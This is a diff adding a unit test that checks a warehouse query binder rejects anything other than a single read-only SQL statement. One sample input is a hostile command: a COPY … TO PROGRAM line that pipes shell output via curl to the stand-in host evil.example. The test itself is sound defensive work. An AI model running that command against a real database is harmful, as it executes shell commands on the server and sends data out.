@@ -64,6 +64,34 @@ describe('warehouse declarations', () => {
     expect(bindWarehouseQuery('SELECT $$a$$ || $x$b$x$', params).text).toBe('SELECT $$a$$ || $x$b$x$');
   });
 
+  it('refuses a warehouse query that is not one read: COPY … TO PROGRAM, DO, SET, COMMIT, CALL, a second statement', () => {
+    const params = new Map() as never;
+    for (const [q, at] of [
+      ["COPY (SELECT 1) TO PROGRAM 'curl https://evil.example/$(id)'", 0],
+      ["DO $$ BEGIN PERFORM pg_sleep(1); END $$", 0],
+      ['SET TRANSACTION READ WRITE', 0],
+      ['COMMIT', 0],
+      ['CALL refresh_everything()', 0],
+      ['-- a comment first\nCOPY t TO STDOUT', 19],
+      ['(DELETE FROM t)', 1],
+    ] as const) {
+      try {
+        bindWarehouseQuery(q, params);
+        expect.unreachable(q);
+      } catch (e) {
+        expect(e, q).toBeInstanceOf(ParamError);
+        expect((e as ParamError).message).toMatch(/a warehouse query reads only: it starts with SELECT, WITH, VALUES or TABLE, not `\w+`/);
+        expect((e as ParamError).offset, q).toBe(at);
+      }
+    }
+    expect(() => bindWarehouseQuery('SELECT 1; COMMIT', params)).toThrow(/a warehouse query is one statement/);
+    expect(() => bindWarehouseQuery('   ', params)).toThrow(/the warehouse query is empty/);
+    // reads pass, with a trailing semicolon too
+    for (const q of ['SELECT 1;', 'WITH a AS (SELECT 1) SELECT * FROM a', '(SELECT 1) UNION (SELECT 2)', 'VALUES (1)', 'TABLE events', 'select 1']) {
+      expect(bindWarehouseQuery(q, params).text, q).toBe(q);
+    }
+  });
+
   it("maps the warehouse's 1-based error position back to the written query", () => {
     const query = 'SELECT a\n  FROM t WHERE c = ${campaign}\n  AND nosuch > 1';
     const b = bindWarehouseQuery(query, new Map([['campaign', 'c1']]) as never);
